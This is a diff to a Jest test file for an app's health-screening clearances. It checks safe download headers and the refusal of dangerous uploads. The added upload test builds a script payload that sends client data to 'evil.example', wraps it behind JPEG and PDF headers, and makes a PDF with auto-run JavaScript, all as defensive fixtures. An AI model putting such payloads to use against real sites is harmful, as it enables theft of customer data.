@@ -1,15 +1,19 @@
+import { readdir } from 'node:fs/promises';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { PDFName, PDFString } from 'pdf-lib';
 import { addCalendarDays, CURRENT_SCREENING_QUESTIONNAIRE } from '@smp/contracts';
 import { createTestApp, type TestApp } from '../test-support/test-app.js';
-import { clearanceLetterPdf, signatureDataUrl } from '../test-support/files.js';
+import { letterPdf, signatureDataUrl } from '../test-support/files.js';
 import { dayFromToday } from '../test-support/scheduling.js';
 import { ScreeningService } from './screening.service.js';
 
 let testApp: TestApp;
 let signature: string;
+let clearanceLetterPdf: Buffer;
 beforeAll(async () => {
   testApp = await createTestApp();
   signature = await signatureDataUrl();
+  clearanceLetterPdf = await letterPdf();
 });
 afterAll(async () => {
   await testApp.close();
@@ -29,6 +33,10 @@ function screen(clientId: string, yes: Record<string, { answer: boolean; date?: 
     .as(role)
     .post(`/api/clients/${clientId}/screenings`)
     .send({ questionnaireVersion: CURRENT_SCREENING_QUESTIONNAIRE.version, answers: { ...noToAll(), ...yes }, signedName: 'Client Person', signature });
+}
+
+async function storedFiles(): Promise<string[]> {
+  return (await readdir(testApp.filesDir, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile()).map((entry) => entry.name);
 }
 
 const eligibility = (clientId: string, role: 'artist' | 'receptionist' | 'owner' = 'artist') =>
@@ -126,8 +134,19 @@ describe('clearing items', () => {
     expect(item).toMatchObject({ status: 'cleared', clearance: { note: 'Letter from Dr Patel: may proceed.', documentName: 'dr-patel.pdf', reviewedBy: { id: testApp.staff.artist.id } } });
     expect(await eligibility(clientId)).toMatchObject({ eligible: true, reasons: [], status: { state: 'clear' } });
 
+    const read = await testApp.as('artist').get(`/api/screenings/${screening.id}`);
+    expect(read.headers['cache-control']).toBe('no-store');
+
+    // Served as a download in its checked type, never as a page of this site, and never cached.
     const document = await testApp.as('owner').get(item.clearance.documentUrl).buffer(true);
-    expect(document.headers['content-type']).toBe('application/pdf');
+    expect(document.headers).toMatchObject({
+      'content-type': 'application/pdf',
+      'content-disposition': 'attachment; filename=dr-patel.pdf',
+      'x-content-type-options': 'nosniff',
+      'content-security-policy': "sandbox; default-src 'none'",
+      'cache-control': 'no-store',
+    });
+    expect(Buffer.compare(document.body as Buffer, clearanceLetterPdf)).toBe(0);
     expect((await testApp.as('receptionist').get(item.clearance.documentUrl)).status).toBe(403);
   });
 
@@ -142,6 +161,37 @@ describe('clearing items', () => {
     expect((await attach('diabetes', clearanceLetterPdf, 'a.pdf')).status).toBe(201);
     expect((await attach('diabetes', clearanceLetterPdf, 'b.pdf')).status).toBe(409);
     expect(await testApp.database.screeningClearance.count({ where: { screeningId: screening.id } })).toBe(1);
+  });
+
+  it('refuses web pages and PDFs that could run something, and leaves neither files nor rows behind', async () => {
+    const clientId = await newClient();
+    const screening = (await screen(clientId, { diabetes: { answer: true } })).body;
+    const attach = (file: Buffer, name: string) =>
+      testApp.as('artist').post(`/api/screenings/${screening.id}/clearances`).field('questionId', 'diabetes').attach('file', file, name);
+    const before = await storedFiles();
+    const page = '<html><body><script>fetch("/api/clients").then((r) => r.text()).then(navigator.sendBeacon.bind(navigator, "https://evil.example"))</script></body></html>';
+
+    const htmlAsJpeg = await attach(Buffer.from(page), 'letter.jpg');
+    expect(htmlAsJpeg.status).toBe(415);
+    expect(htmlAsJpeg.body.errors).toEqual([{ field: 'file', message: 'Attach the letter as a PDF, JPEG or PNG' }]);
+
+    const htmlBehindJpegHeader = await attach(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(page)]), 'letter.jpg');
+    expect(htmlBehindJpegHeader.status).toBe(400);
+    expect(htmlBehindJpegHeader.body.errors).toEqual([{ field: 'file', message: 'The image could not be read; it may be damaged' }]);
+
+    const htmlBehindPdfHeader = await attach(Buffer.from(`%PDF-1.7\n${page}`), 'letter.pdf');
+    expect(htmlBehindPdfHeader.status).toBe(400);
+    expect(htmlBehindPdfHeader.body.errors).toEqual([{ field: 'file', message: 'The PDF could not be read; it may be damaged' }]);
+
+    const autoRunScript = await letterPdf((document) => {
+      document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("hello")') }));
+    });
+    const scripted = await attach(autoRunScript, 'letter.pdf');
+    expect(scripted.status).toBe(400);
+    expect(scripted.body.errors).toEqual([{ field: 'file', message: 'The PDF contains JavaScript; attach a plain copy (print it to PDF or scan the letter)' }]);
+
+    expect(await storedFiles()).toEqual(before);
+    expect(await testApp.database.screeningClearance.count({ where: { screeningId: screening.id } })).toBe(0);
   });
 
   it('a passed patch test clears a pigment allergy; a later failed one brings it back', async () => {
